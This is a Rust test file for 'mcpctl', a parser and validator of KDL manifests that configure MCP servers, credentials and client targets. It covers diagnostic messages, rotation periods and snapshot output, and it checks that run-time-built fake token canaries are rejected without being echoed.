//! Tests of parsing and validation: the normalized model of a full team
//! manifest, one test per kind of diagnostic, and snapshots of what users
//! see (rendered with a fixed theme and width so they are stable).
//!
//! Secret canaries are built at run time and masked before snapshotting, so
//! no secret-shaped literal is stored in the repository.

use std::collections::BTreeMap;

use miette::{GraphicalReportHandler, GraphicalTheme};

use super::*;

const TEAM: &str = include_str!("testdata/team.kdl");
const MANY_PROBLEMS: &str = include_str!("testdata/many-problems.kdl");

pub(super) fn render(err: &ManifestError) -> String {
    let mut out = String::new();
    GraphicalReportHandler::new_themed(GraphicalTheme::unicode_nocolor())
        .with_width(100)
        .with_links(false)
        .render_report(&mut out, err)
        .unwrap();
    out
}

/// The problems of a manifest that must not validate.
pub(super) fn problems(source: &str) -> Vec<Problem> {
    match parse("mcpctl.kdl", source) {
        Ok(m) => panic!("expected problems, got {m:#?}"),
        Err(e) => e.problems().to_vec(),
    }
}

fn kinds(source: &str) -> Vec<ProblemKind> {
    problems(source).iter().map(|p| p.kind).collect()
}

/// The only problem of a manifest with exactly one.
pub(super) fn only(source: &str) -> Problem {
    let mut all = problems(source);
    assert_eq!(all.len(), 1, "{all:#?}");
    all.remove(0)
}

/// The text of the primary label of a problem.
pub(super) fn label(p: &Problem) -> &str {
    p.labels[0].label().unwrap_or("")
}

/// The source text a label points at.
pub(super) fn at<'s>(source: &'s str, p: &Problem, i: usize) -> &'s str {
    let l = &p.labels[i];
    &source[l.offset()..l.offset() + l.len()]
}

pub(super) fn ok(source: &str) -> Manifest {
    parse("mcpctl.kdl", source).unwrap_or_else(|e| panic!("{}", render(&e)))
}

const HEAD: &str = "mcpctl version=1\nclient claude-code\n";

fn with_head(body: &str) -> String {
    format!("{HEAD}{body}")
}

// ----- the happy path --------------------------------------------------------

#[test]
fn team_manifest_normalizes() {
    let m = ok(TEAM);
    assert_eq!(m.version, 1);
    assert_eq!(m.defaults.delivery, Delivery::Exec);
    assert_eq!(m.defaults.rotate_every, Some(Period { days: 180 }));
    assert_eq!(
        m.clients,
        [
            ClientTarget {
                client: ClientId::ClaudeCode,
                scope: Scope::User,
                delivery: None
            },
            ClientTarget {
                client: ClientId::ClaudeCode,
                scope: Scope::Project,
                delivery: None
            },
            ClientTarget {
                client: ClientId::Vscode,
                scope: Scope::User,
                delivery: None
            },
            ClientTarget {
                client: ClientId::Codex,
                scope: Scope::User,
                delivery: None
            },
        ]
    );

    // Rotation: own period, then provider, then kind, then defaults.
    let period = |name: &str| {
        let c = &m.credentials[name];
        (c.rotate_every.map(|p| p.days), c.rotate_every_source)
    };
    assert_eq!(
        period("GITHUB_TOKEN"),
        (Some(90), Some(PeriodSource::Provider))
    );
    assert_eq!(
        period("AZURE_DEVOPS_PAT"),
        (Some(84), Some(PeriodSource::Credential))
    );
    assert_eq!(period("DATABASE_URL"), (Some(60), Some(PeriodSource::Kind)));
    assert_eq!(
        period("SLACK_BOT_TOKEN"),
        (Some(180), Some(PeriodSource::Defaults))
    );
    assert_eq!(
        period("SENTRY_AUTH_TOKEN"),
        (Some(180), Some(PeriodSource::Defaults))
    );

    let github = &m.credentials["GITHUB_TOKEN"];
    assert_eq!(github.kind, CredentialKind::PersonalAccessToken);
    assert_eq!(github.provider.as_deref(), Some("github"));
    assert_eq!(github.scopes, ["repo", "read:org", "workflow"]);
    assert_eq!(
        github.create_at.as_deref(),
        Some("https://github.com/settings/tokens/new")
    );
    assert_eq!(github.label(), "GitHub PAT for the GitHub MCP server");
    assert_eq!(
        m.credentials["SENTRY_AUTH_TOKEN"].label(),
        "SENTRY_AUTH_TOKEN"
    );

    // Servers.
    assert_eq!(
        m.servers.keys().collect::<Vec<_>>(),
        [
            "azure-devops",
            "docs",
            "github",
            "postgres",
            "sentry",
            "slack"
        ]
    );
    let server = &m.servers["github"];
    assert_eq!(
        server.transport,
        Transport::Stdio {
            command: "npx".into(),
            args: vec!["-y".into(), "@modelcontextprotocol/server-github".into()],
        }
    );
    let cred = |c: &str| EnvValue::Credential {
        credential: c.into(),
    };
    assert_eq!(
        server.env,
        BTreeMap::from([
            (
                "GITHUB_PERSONAL_ACCESS_TOKEN".to_owned(),
                cred("GITHUB_TOKEN")
            ),
            ("GITHUB_TOKEN".to_owned(), cred("GITHUB_TOKEN")),
            (
                "GITHUB_TOOLSETS".to_owned(),
                EnvValue::Literal {
                    value: "repos,issues".into()
                }
            ),
        ])
    );
    assert_eq!(
        server.credential_bindings().collect::<Vec<_>>(),
        [
            ("GITHUB_PERSONAL_ACCESS_TOKEN", "GITHUB_TOKEN"),
            ("GITHUB_TOKEN", "GITHUB_TOKEN")
        ]
    );
    // No `clients`: every targeted client, deduplicated, in manifest order.
    assert_eq!(
        server.clients,
        [ClientId::ClaudeCode, ClientId::Vscode, ClientId::Codex]
    );
    assert_eq!(server.delivery, None);
    assert_eq!(server.description.as_deref(), Some("GitHub issues and PRs"));

    let azure = &m.servers["azure-devops"];
    assert_eq!(
        azure.transport,
        Transport::Stdio {
            command: "npx".into(),
            args: vec!["-y".into(), "@azure-devops/mcp".into(), "contoso".into()],
        }
    );
    assert_eq!(azure.clients, [ClientId::ClaudeCode, ClientId::Vscode]);
    assert_eq!(
        azure.credential_bindings().collect::<Vec<_>>(),
        [("AZURE_DEVOPS_PAT", "AZURE_DEVOPS_PAT")]
    );
    assert_eq!(
        m.servers["postgres"].env["DATABASE_URL"],
        cred("DATABASE_URL")
    );
    assert_eq!(
        m.servers["slack"].env["SLACK_TEAM_ID"],
        EnvValue::Literal {
            value: "T01234567".into()
        }
    );
    assert_eq!(
        m.servers["sentry"].env["SENTRY_ACCESS_TOKEN"],
        cred("SENTRY_AUTH_TOKEN")
    );
    assert_eq!(
        m.servers["docs"].transport,
        Transport::Http {
            url: "https://docs.example.com/mcp".into(),
            headers: BTreeMap::from([("X-Team".to_owned(), "platform".to_owned())]),
            credential_headers: BTreeMap::new(),
        }
    );
    assert_eq!(
        m.servers["docs"].clients,
        [ClientId::ClaudeCode, ClientId::Codex]
    );

    // The whole model, as JSON, for review.
    insta::assert_json_snapshot!("team_manifest_model", m);
}

#[test]
fn minimal_manifests() {
    let m = ok("mcpctl version=1\n");
    assert!(m.clients.is_empty() && m.credentials.is_empty() && m.servers.is_empty());
    assert_eq!(m.defaults, Defaults::default());

    // No `client` nodes: a server goes nowhere, which is allowed.
    let m = ok("mcpctl version=1\nserver s { command x }\n");
    assert!(m.servers["s"].clients.is_empty());

    // `kind` defaults to `other`; no period from anywhere.
    let m = ok(&with_head("credential TOKEN\n"));
    let c = &m.credentials["TOKEN"];
    assert_eq!(c.kind, CredentialKind::Other);
    assert_eq!((c.rotate_every, c.rotate_every_source), (None, None));

    // Access keys: 30 days from the kind; a provider period wins over it.
    let m = ok(&with_head(
        "credential AWS_ACCESS_KEY_ID { kind access-key; provider aws }\n\
         credential GH { kind access-key; provider github }\n",
    ));
    let c = &m.credentials["AWS_ACCESS_KEY_ID"];
    assert_eq!(
        (c.rotate_every, c.rotate_every_source),
        (Some(Period { days: 30 }), Some(PeriodSource::Kind))
    );
    let c = &m.credentials["GH"];
    assert_eq!(
        (c.rotate_every, c.rotate_every_source),
        (Some(Period { days: 90 }), Some(PeriodSource::Provider))
    );

    // Comments, slashdash and placeholders are fine.
    ok(&with_head(
        "/-server old { command x }\nserver s {\n    command x \"${HOME}/bin\" // c\n    env A \"<token>\"\n}\n",
    ));
}

#[test]
fn periods_in_weeks_and_years() {
    let m = ok(&with_head(
        "credential A { rotate-every \"2w\" }\ncredential B { rotate-every \"1y\" }\n",
    ));
    assert_eq!(m.credentials["A"].rotate_every, Some(Period { days: 14 }));
    assert_eq!(m.credentials["B"].rotate_every, Some(Period { days: 365 }));
}

// ----- version ---------------------------------------------------------------

#[test]
fn version_missing() {
    let p = only("client claude-code\n");
    assert_eq!(p.kind, ProblemKind::Version);
    assert_eq!(p.help.as_deref(), Some("add `mcpctl version=1` at the top"));
    let p = only("");
    assert_eq!(p.kind, ProblemKind::Version);
    let p = only("mcpctl\n");
    assert_eq!(p.kind, ProblemKind::Version);
    assert_eq!(p.help.as_deref(), Some("add `mcpctl version=1` at the top"));
}

#[test]
fn version_unsupported_stops_there() {
    let p = only("mcpctl version=2\nbogus\nserver { }\n");
    assert_eq!(p.kind, ProblemKind::Version);
    assert!(
        p.help
            .unwrap()
            .contains("this mcpctl understands version 1")
    );
}

#[test]
fn version_misplaced_or_misspelt() {
    let source = "client claude-code\nmcpctl version=1\n";
    let p = only(source);
    assert_eq!(p.kind, ProblemKind::Version);
    assert_eq!(at(source, &p, 0), "mcpctl version=1");
    assert_eq!(kinds("mcpctl version=\"1\"\n"), [ProblemKind::Arguments]);
    assert_eq!(kinds("mcpctl 1 version=1\n"), [ProblemKind::Arguments]);
    let p = only("mcpctl version=1.0\n");
    assert_eq!(
        p.message,
        "the version must be a whole number, not a decimal number"
    );
    assert_eq!(
        kinds("mcpctl version=1\nmcpctl version=1\n"),
        [ProblemKind::Duplicate]
    );
    let p = only("mcpctl versoin=1 version=1\n");
    assert_eq!(p.kind, ProblemKind::UnknownProperty);
    assert!(p.help.unwrap().contains("did you mean `version`?"));
}

// ----- syntax ----------------------------------------------------------------

#[test]
fn syntax_errors_keep_file_line_and_column() {
    let err = parse("team/mcpctl.kdl", "mcpctl version=1\ncredential A {\n").unwrap_err();
    assert!(matches!(err, ManifestError::Syntax { .. }));
    assert!(err.problem_count() >= 1);
    assert_eq!(err.problems()[0].kind, ProblemKind::Syntax);
    let text = render(&err);
    assert!(text.contains("[team/mcpctl.kdl:2:"), "{text}");
}

#[test]
fn syntax_hint_for_unquoted_values() {
    let err = parse(
        "m.kdl",
        "mcpctl version=1\ncredential A { rotate-every 90d; }\n",
    )
    .unwrap_err();
    let help = err.problems()[0].help.clone().unwrap();
    assert!(help.contains("`\"90d\"`"), "{help}");
    let err = parse(
        "m.kdl",
        "mcpctl version=1\nserver s { command npx -y @a/b; }\n",
    )
    .unwrap_err();
    let help = err.problems()[0].help.clone().unwrap();
    assert!(help.contains("double quotes"), "{help}");
}

// ----- unknown nodes and properties, shapes ----------------------------------

#[test]
fn unknown_nodes_suggest() {
    let p = only("mcpctl version=1\nservers {\n}\n");
    assert_eq!(p.kind, ProblemKind::UnknownNode);
    assert!(p.help.unwrap().starts_with("did you mean `server`?"));

    let p = only("mcpctl version=1\nenv A \"b\"\n");
    assert!(
        p.help
            .unwrap()
            .contains("inside a `server NAME { … }` block")
    );

    let p = only(&with_head("credential A { kinds api-key }\n"));
    assert_eq!(p.kind, ProblemKind::UnknownNode);
    assert!(p.help.unwrap().starts_with("did you mean `kind`?"));

    let p = only(&with_head("server s { command x; descr \"d\" }\n"));
    assert!(p.help.unwrap().starts_with("did you mean `description`?"));

    let p = only(&with_head("server s { command x; args a b }\n"));
    assert!(p.help.unwrap().contains("arguments follow the program"));

    let p = only(&with_head("defaults { rotate \"90d\" }\n"));
    assert!(p.help.unwrap().starts_with("did you mean `rotate-every`?"));

    let p = only(&with_head("frobnicate\n"));
    assert_eq!(p.kind, ProblemKind::UnknownNode);
}

#[test]
fn unknown_properties_suggest() {
    let p = only("mcpctl version=1\nclient claude-code scpoe=project\n");
    assert_eq!(p.kind, ProblemKind::UnknownProperty);
    assert_eq!(label(&p), "unknown property");
    assert!(p.help.unwrap().starts_with("did you mean `scope`?"));

    let p = only(&with_head("server s { command x; env A credentail=B }\n"));
    assert_eq!(p.kind, ProblemKind::UnknownProperty);

    let p = only(&with_head("server s color=red { command x }\n"));
    assert_eq!(p.help.as_deref(), Some("`server` takes no properties"));

    let p = only("mcpctl version=1\nclient claude-code scope=user scope=project\n");
    assert_eq!(p.kind, ProblemKind::Duplicate);
}

#[test]
fn wrong_arguments() {
    // Missing.
    let p = only(&with_head("credential A { kind }\n"));
    assert_eq!(p.kind, ProblemKind::Arguments);
    assert_eq!(p.message, "`kind` needs a credential kind");
    assert_eq!(
        kinds(&with_head("server { command x }\n")),
        [ProblemKind::Arguments]
    );
    assert_eq!(
        kinds(&with_head("server s { command }\n")),
        [ProblemKind::Arguments]
    );
    assert_eq!(
        kinds(&with_head("server s { command x; env }\n")),
        [ProblemKind::Arguments]
    );
    assert_eq!(
        kinds(&with_head("server s { command x; env A }\n")),
        [ProblemKind::Arguments]
    );
    // Extra.
    let source = with_head("credential A { kind api-key oauth-token }\n");
    let p = only(&source);
    assert_eq!(p.kind, ProblemKind::Arguments);
    assert_eq!(at(&source, &p, 0), "oauth-token");
    assert_eq!(kinds(&with_head("defaults x\n")), [ProblemKind::Arguments]);
    assert_eq!(
        kinds(&with_head("server s { command x; env A \"b\" \"c\" }\n")),
        [ProblemKind::Arguments]
    );
    // Both a value and a credential.
    let p = only(&with_head(
        "credential B\nserver s { command x; env A \"b\" credential=B }\n",
    ));
    assert_eq!(p.labels.len(), 2);
    // Wrong types.
    let p = only(&with_head("server s { command x --port 8080 }\n"));
    assert_eq!(p.message, "expected a string, found a number");
    assert!(p.help.unwrap().contains("double quotes"));
    assert_eq!(
        kinds(&with_head("server s { command x; description #true }\n")),
        [ProblemKind::Arguments]
    );
    // A block where none goes.
    let p = only(&with_head("server s { command x { y } }\n"));
    assert_eq!(p.message, "`command` takes no block");
    // `${VAR}` unquoted reads as `$` and a block.
    let p = only(&with_head("server s { command x; env A ${B} }\n"));
    assert!(p.help.unwrap().contains("put `${…}` in double quotes"));
    // Empty lists.
    assert_eq!(
        kinds(&with_head("credential A { scopes }\n")),
        [ProblemKind::Arguments]
    );
    assert_eq!(
        kinds(&with_head("server s { command x; clients }\n")),
        [ProblemKind::Arguments]
    );
    assert_eq!(
        kinds(&with_head("server s { command \"\" }\n")),
        [ProblemKind::Arguments]
    );
}

#[test]
fn type_annotations_are_rejected() {
    assert_eq!(
        kinds(&with_head("credential A { kind (t)api-key }\n")),
        [ProblemKind::TypeAnnotation]
    );
    assert_eq!(
        kinds(&with_head("(t)credential A\n")),
        [ProblemKind::TypeAnnotation]
    );
}

// ----- duplicates --------------------------------------------------------------

#[test]
fn duplicates_point_at_both() {
    let source = with_head("credential A\ncredential A\n");
    let p = only(&source);
    assert_eq!(p.kind, ProblemKind::Duplicate);
    assert_eq!(p.labels.len(), 2);
    assert_eq!(p.labels[1].label(), Some("first declared here"));
    assert!(p.labels[0].offset() > p.labels[1].offset());

    let p = only(&with_head(
        "server s { command x }\nserver s { command y }\n",
    ));
    assert_eq!(p.kind, ProblemKind::Duplicate);

    let p = only("mcpctl version=1\nclient codex scope=project\nclient codex scope=project\n");
    assert_eq!(p.kind, ProblemKind::Duplicate);
    // Another scope is another target.
    ok("mcpctl version=1\nclient codex\nclient codex scope=project\n");

    let source = with_head(
        "credential A\nserver s {\n    command x\n    credential A\n    env A \"literal\"\n}\n",
    );
    let p = only(&source);
    assert_eq!(p.kind, ProblemKind::Duplicate);
    assert_eq!(at(&source, &p, 0), "A");
    assert_eq!(p.labels[1].label(), Some("first defined here"));
    assert!(
        p.message
            .contains("environment variable `A` is set twice in server `s`")
    );

    assert_eq!(
        kinds(&with_head(
            "server s { url \"https://x\"; header X-A \"1\"; header x-a \"2\" }\n"
        )),
        [ProblemKind::Duplicate]
    );
    assert_eq!(
        kinds(&with_head("server s { command x; command y }\n")),
        [ProblemKind::Duplicate]
    );
    assert_eq!(
        kinds(&with_head("defaults\ndefaults\n")),
        [ProblemKind::Duplicate]
    );
    assert_eq!(
        kinds(&with_head("credential A { scopes a b a }\n")),
        [ProblemKind::Duplicate]
    );
    assert_eq!(
        kinds("mcpctl version=1\nclient codex\nserver s { command x; clients codex codex }\n"),
        [ProblemKind::Duplicate]
    );
}

// ----- names -------------------------------------------------------------------

#[test]
fn invalid_names() {
    for bad in ["\"1TOKEN\"", "MY-TOKEN", "TOKEN$", "\"\""] {
        let p = only(&with_head(&format!("credential {bad}\n")));
        assert_eq!(p.kind, ProblemKind::InvalidName, "{bad}");
    }
    ok(&with_head("credential _private_1\n"));
    let p = only(&with_head("server s { command x; env \"MY-VAR\" \"v\" }\n"));
    assert_eq!(p.kind, ProblemKind::InvalidName);
    let p = only(&with_head("server \"my server\" { command x }\n"));
    assert_eq!(p.kind, ProblemKind::InvalidName);
    let p = only(&with_head(
        "server s { url \"https://x\"; header \"X Team\" \"v\" }\n",
    ));
    assert_eq!(p.kind, ProblemKind::InvalidName);
    let p = only(&with_head("credential A { provider GitHub }\n"));
    assert_eq!(p.kind, ProblemKind::InvalidName);
}

// ----- references --------------------------------------------------------------

#[test]
fn unknown_credentials_suggest() {
    let source = with_head(
        "credential GITHUB_TOKEN\nserver s {\n    command x\n    credential GITHUB_TOKN\n}\n",
    );
    let p = only(&source);
    assert_eq!(p.kind, ProblemKind::UnknownCredential);
    assert_eq!(at(&source, &p, 0), "GITHUB_TOKN");
    assert!(p.help.unwrap().starts_with("did you mean `GITHUB_TOKEN`?"));

    let p = only(&with_head(
        "server s { command x; env A credential=NOPE }\n",
    ));
    assert_eq!(p.kind, ProblemKind::UnknownCredential);
    assert_eq!(
        p.help.as_deref(),
        Some("Declare it at the top level: `credential NOPE { kind … }`")
    );
    // A server may use a credential declared below it.
    ok(&with_head(
        "server s { command x; credential LATER }\ncredential LATER\n",
    ));
}

#[test]
fn unknown_clients_scopes_kinds_deliveries() {
    let p = only("mcpctl version=1\nclient claude\n");
    assert_eq!(p.kind, ProblemKind::UnknownClient);
    assert!(p.help.unwrap().starts_with("did you mean `claude-code`?"));
    let p = only("mcpctl version=1\nclient vs-code\n");
    assert!(p.help.unwrap().starts_with("did you mean `vscode`?"));

    let p = only("mcpctl version=1\nclient codex scope=projekt\n");
    assert_eq!(p.kind, ProblemKind::UnknownScope);
    assert!(p.help.unwrap().starts_with("did you mean `project`?"));

    let p = only(&with_head("credential A { kind pat }\n"));
    assert_eq!(p.kind, ProblemKind::UnknownKind);
    let p = only(&with_head("credential A { kind api_key }\n"));
    assert!(p.help.unwrap().starts_with("did you mean `api-key`?"));

    let p = only(&with_head("defaults { delivery exe }\n"));
    assert_eq!(p.kind, ProblemKind::UnknownDelivery);
    assert!(p.help.unwrap().starts_with("did you mean `exec`?"));

    // `clients` may only name targeted clients.
    let p = only(&with_head(
        "server s { command x; clients claude-code codex }\n",
    ));
    assert_eq!(p.kind, ProblemKind::UnknownClient);
    assert_eq!(p.message, "client `codex` is not targeted by this manifest");
    let p = only(&with_head("server s { command x; clients cursor }\n"));
    assert_eq!(p.kind, ProblemKind::UnknownClient);
}

#[test]
fn clients_without_targets() {
    let p = only("mcpctl version=1\nserver s { command x; clients codex }\n");
    assert_eq!(p.kind, ProblemKind::NoClients);
    assert_eq!(p.message, "the manifest targets no clients");
    assert!(p.help.unwrap().starts_with("add `client claude-code`"));
}

// ----- delivery ------------------------------------------------------------------

#[test]
fn delivery_is_chosen_per_server_then_per_client_then_by_default() {
    let m = ok(&format!(
        "mcpctl version=1\n{}",
        "defaults { delivery exec }
client claude-code delivery=env-ref
client codex
credential T
server a { command x; credential T }
server b { command x; credential T; delivery exec }
",
    ));
    let (claude, codex) = (m.clients[0], m.clients[1]);
    assert_eq!(claude.delivery, Some(Delivery::EnvRef));
    assert_eq!(m.delivery(&m.servers["a"], &claude), Delivery::EnvRef);
    assert_eq!(m.delivery(&m.servers["a"], &codex), Delivery::Exec);
    assert_eq!(m.delivery(&m.servers["b"], &claude), Delivery::Exec);
    let all = ok(&with_head(
        "defaults { delivery env-ref }
client codex
server a { command x }
",
    ));
    assert_eq!(
        all.delivery(&all.servers["a"], &all.clients[0]),
        Delivery::EnvRef
    );
    let p = only(&with_head(
        "client codex delivery=env_ref
",
    ));
    assert_eq!(p.kind, ProblemKind::UnknownDelivery);
}

#[test]
fn credential_headers_need_env_ref() {
    let source = with_head(
        "credential SENTRY_AUTH_TOKEN\nserver sentry {\n    url \"https://mcp.sentry.dev/mcp\"\n    header X-Team \"platform\"\n    header Authorization credential=SENTRY_AUTH_TOKEN\n}\n",
    );
    let p = only(&source);
    assert_eq!(p.kind, ProblemKind::Transport);
    assert_eq!(
        p.message,
        "a remote server's credential header needs delivery env-ref"
    );
    assert_eq!(
        at(&source, &p, 0),
        "header Authorization credential=SENTRY_AUTH_TOKEN"
    );
    // With env-ref on the server, the defaults or any client, it is fine.
    for source in [
        "credential T\nserver s { url \"https://x\"; delivery env-ref; header A credential=T scheme=Bearer }\n",
        "defaults { delivery env-ref }\ncredential T\nserver s { url \"https://x\"; header A credential=T }\n",
        "client cursor delivery=env-ref\ncredential T\nserver s { url \"https://x\"; header A credential=T }\n",
    ] {
        let m = ok(&with_head(source));
        let Transport::Http {
            credential_headers, ..
        } = &m.servers["s"].transport
        else {
            panic!("remote")
        };
        assert_eq!(credential_headers["A"].credential, "T");
    }
    let m = ok(&with_head(
        "credential T\nserver s { url \"https://x\"; delivery env-ref; header Authorization credential=T scheme=Bearer }\n",
    ));
    let Transport::Http {
        credential_headers, ..
    } = &m.servers["s"].transport
    else {
        panic!("remote")
    };
    assert_eq!(
        credential_headers["Authorization"].scheme.as_deref(),
        Some("Bearer")
    );
    assert_eq!(
        only(&with_head(
            "credential T\nserver s { url \"https://x\"; delivery env-ref; header A credential=T scheme=\"Be arer\" }\n"
        ))
        .message,
        "`Be arer` is not an authentication scheme"
    );
    assert_eq!(
        only(&with_head(
            "server s { url \"https://x\"; header A \"v\" scheme=Bearer }\n"
        ))
        .message,
        "`scheme` applies only to a header from a credential"
    );
}

#[test]
fn scopes_must_be_the_clients_own() {
    let p = only(&with_head("client cursor scope=local\n"));
    assert_eq!(p.kind, ProblemKind::UnknownScope);
    assert_eq!(p.message, "client `cursor` has no `local` scope");
    assert_eq!(p.help.as_deref(), Some("`cursor` has `user`, `project`"));
    let m = ok(&with_head(
        "client claude-code scope=local\nclient claude-desktop\nclient gemini-cli scope=project\n",
    ));
    assert_eq!(m.clients[1].scope, Scope::Local);
}

#[test]
fn shell_profiles() {
    let m = ok(&with_head("shell-profile zsh powershell\n"));
    assert_eq!(m.shell_profiles, [Shell::Zsh, Shell::Powershell]);
    let p = only(&with_head("shell-profile zhs\n"));
    assert_eq!(p.message, "unknown shell `zhs`");
    assert!(p.help.unwrap().starts_with("did you mean `zsh`?"));
    assert_eq!(
        only(&with_head("shell-profile zsh zsh\n")).message,
        "shell `zsh` is listed twice"
    );
}

// ----- durations -------------------------------------------------------------------

#[test]
fn bad_durations() {
    for (bad, label_text) in [
        ("90", "a bare number"),
        ("\"90\"", "no unit"),
        ("\"0d\"", "a period of zero never comes round"),
        ("\"3m\"", "`m` could mean months or minutes"),
        ("\"abc\"", "not a period"),
        ("\"5h\"", "unknown unit"),
        ("#true", "not a period"),
    ] {
        let p = only(&with_head(&format!(
            "credential A {{ rotate-every {bad} }}\n"
        )));
        assert_eq!(p.kind, ProblemKind::Duration, "{bad}");
        assert_eq!(label(&p), label_text, "{bad}");
        assert!(
            p.help.as_deref().unwrap().starts_with(
                "write a number of days, weeks or years: `\"90d\"`, `\"12w\"`, `\"1y\"`"
            ),
            "{bad}"
        );
    }
    assert_eq!(
        kinds(&with_head("defaults { rotate-every \"0w\" }\n")),
        [ProblemKind::Duration]
    );
}

// ----- transport ---------------------------------------------------------------------

#[test]
fn transport_problems() {
    let p = only(&with_head("server s { description \"d\" }\n"));
    assert_eq!(p.kind, ProblemKind::Transport);
    assert_eq!(p.message, "server `s` has neither `command` nor `url`");
    let p = only(&with_head("server s\n"));
    assert_eq!(p.kind, ProblemKind::Transport);
    let p = only(&with_head("server s { command x; url \"https://x\" }\n"));
    assert_eq!(p.message, "server `s` has both `command` and `url`");
    assert_eq!(p.labels.len(), 2);
    let p = only(&with_head("server s { command x; header A \"b\" }\n"));
    assert_eq!(p.kind, ProblemKind::Transport);

    for (url, problem) in [
        ("ftp://x/y", "not http(s)"),
        ("mcp.example.com", "not http(s)"),
        ("https://", "no host"),
        ("https:///path", "no host"),
        ("https://a b", "contains whitespace"),
    ] {
        let p = only(&with_head(&format!("server s {{ url \"{url}\" }}\n")));
        assert_eq!(p.kind, ProblemKind::Url, "{url}");
        assert_eq!(label(&p), problem, "{url}");
    }
    ok(&with_head(
        "server s { url \"HTTP://localhost:8080/mcp\" }\n",
    ));
    let p = only(&with_head(
        "credential A { create-at \"github.com/settings\" }\n",
    ));
    assert_eq!(p.kind, ProblemKind::Url);
}

// ----- secrets ---------------------------------------------------------------------

/// Secret-shaped canaries, built at run time.
fn canaries() -> Vec<(String, &'static str)> {
    vec![
        (format!("ghp_{}", "A".repeat(36)), "github-classic-pat"),
        (
            format!("xoxb-{}-{}", "1".repeat(12), "b".repeat(24)),
            "slack-token",
        ),
        (format!("AKIA{}", "Q".repeat(16)), "aws-access-key-id"),
        (format!("sk-ant-{}", "a1".repeat(20)), "anthropic-api-key"),
        (
            format!("postgres://app:{}@db/app", "s3cr3t"),
            "url-password",
        ),
    ]
}

#[test]
fn secrets_are_rejected_everywhere_without_echo() {
    for (canary, rule) in canaries() {
        for place in [
            format!("server s {{ command x \"--token={canary}\" }}"),
            format!("server s {{ command \"{canary}\" }}"),
            format!("server s {{ command x; env A \"{canary}\" }}"),
            format!("server s {{ url \"https://{canary}.example\" }}"),
            format!("server s {{ url \"https://x\"; header Authorization \"Bearer {canary}\" }}"),
            format!("credential A {{ description \"{canary}\" }}"),
        ] {
            let source = with_head(&format!("{place}\n"));
            let all = problems(&source);
            let secret: Vec<_> = all
                .iter()
                .filter(|p| p.kind == ProblemKind::Secret)
                .collect();
            assert_eq!(secret.len(), 1, "{rule} in {place}: {all:#?}");
            let p = secret[0];
            assert!(p.message.contains(rule), "{}", p.message);
            assert!(label(p).starts_with("this looks like "));
            assert!(
                p.help
                    .as_deref()
                    .unwrap()
                    .contains("store it with `mcpctl apply` instead: declare `credential NAME` and bind it with `env VAR credential=NAME`")
            );
            // No message, label or help repeats the value.
            for p in &all {
                let mut text = format!("{} {:?}", p.message, p.help);
                for l in &p.labels {
                    text.push_str(l.label().unwrap_or(""));
                }
                assert!(!text.contains(&canary), "{rule} echoed: {text}");
            }
        }
    }
}

#[test]
fn secret_names_are_not_echoed_either() {
    let canary = format!("ghp_{}", "B".repeat(36));
    let source = with_head(&format!(
        "server s {{ command x; env A credential=\"{canary}\" }}\n"
    ));
    let all = problems(&source);
    assert_eq!(
        all.iter().map(|p| p.kind).collect::<Vec<_>>(),
        [ProblemKind::Secret, ProblemKind::UnknownCredential]
    );
    let rendered = render(&parse("m.kdl", &source).unwrap_err());
    // Neither the messages nor the snippet of the user's own line repeat it.
    assert_eq!(rendered.matches(&canary[4..]).count(), 0, "{rendered}");
}

#[test]
fn placeholders_are_not_secrets() {
    ok(&with_head(
        "server s {\n    command x \"--token=${GITHUB_TOKEN}\"\n    env A \"your-token-here\"\n    env B \"<token>\"\n    env C \"postgres://app:${DB_PASSWORD}@db/app\"\n    env D \"ghp_your_actual_token\"\n}\n",
    ));
}

#[test]
fn a_random_value_of_a_secret_named_variable_is_refused() {
    // Issue 12: a generic secret has no provider prefix; its name says it.
    let value = "k8Jd92LmQz7RtX4vNc1PaY6w";
    for line in [
        format!("env API_KEY \"{value}\""),
        format!("env SERVICE_PASSWORD \"{value}\""),
        format!("command x \"--api-key\" \"{value}\""),
        format!("command x \"--api-key={value}\""),
        format!("command x \"https://x.example/mcp?token={value}\""),
    ] {
        let command = if line.starts_with("env") {
            "    command x\n"
        } else {
            ""
        };
        let source = with_head(&format!("server s {{\n{command}    {line}\n}}\n"));
        assert_eq!(kinds(&source), [ProblemKind::Secret], "{line}");
        let rendered = render(&parse("m.kdl", &source).unwrap_err());
        assert!(!rendered.contains(value), "{rendered}");
    }
    // Placeholders and other names pass.
    ok(&with_head(
        "server s {\n    command x\n    env API_KEY \"${API_KEY}\"\n    env LOG_FORMAT \"k8Jd92LmQz7RtX4vNc1PaY6w\"\n    env API_TOKEN \"changeme\"\n}\n",
    ));
}

#[test]
fn a_token_shape_holding_fake_is_refused() {
    // Whatever the manifest holds is written to client files as it is.
    let fake = format!("ghp_FAKE{}", "a1B2".repeat(8));
    let source = with_head(&format!(
        "server s {{\n    command x\n    env GITHUB_TOKEN \"{fake}\"\n}}\n"
    ));
    assert_eq!(kinds(&source), [ProblemKind::Secret]);
    let rendered = render(&parse("m.kdl", &source).unwrap_err());
    assert!(!rendered.contains(&fake[4..]), "{rendered}");
}

#[test]
fn a_secret_in_a_comment_is_hidden_in_the_snippet() {
    let token = format!("glpat-{}", "c3".repeat(10));
    let source = format!("mcpctl version=1\n// old token: {token}\nbogus-node\n");
    let rendered = render(&parse("m.kdl", &source).unwrap_err());
    assert!(rendered.contains("bogus-node"), "{rendered}");
    assert!(!rendered.contains(&token[6..]), "{rendered}");
}

#[test]
fn secrets_are_reported_even_with_an_unsupported_version() {
    let canary = format!("glpat-{}", "c3".repeat(10));
    let source = format!("mcpctl version=9\nx \"{canary}\"\n");
    assert_eq!(kinds(&source), [ProblemKind::Version, ProblemKind::Secret]);
}

// ----- all at once, as users see them ------------------------------------------------

#[test]
fn many_problems_are_all_reported_in_source_order() {
    let err = parse("mcpctl.kdl", MANY_PROBLEMS).unwrap_err();
    let offsets: Vec<_> = err.problems().iter().map(Problem::offset).collect();
    let mut sorted = offsets.clone();
    sorted.sort();
    assert_eq!(offsets, sorted);
    assert_eq!(err.problem_count(), err.problems().len());
    assert!(err.problem_count() >= 15, "{}", err.problem_count());
    insta::assert_snapshot!("many_problems", render(&err));
}

#[test]
fn snapshot_syntax_error() {
    let source = "mcpctl version=1\n\ncredential GITHUB_TOKEN {\n    rotate-every 90d\n}\n\nserver github {\n    command npx -y @modelcontextprotocol/server-github\n}\n";
    let err = parse("mcpctl.kdl", source).unwrap_err();
    insta::assert_snapshot!("syntax_error", render(&err));
}

#[test]
fn snapshot_unsupported_version() {
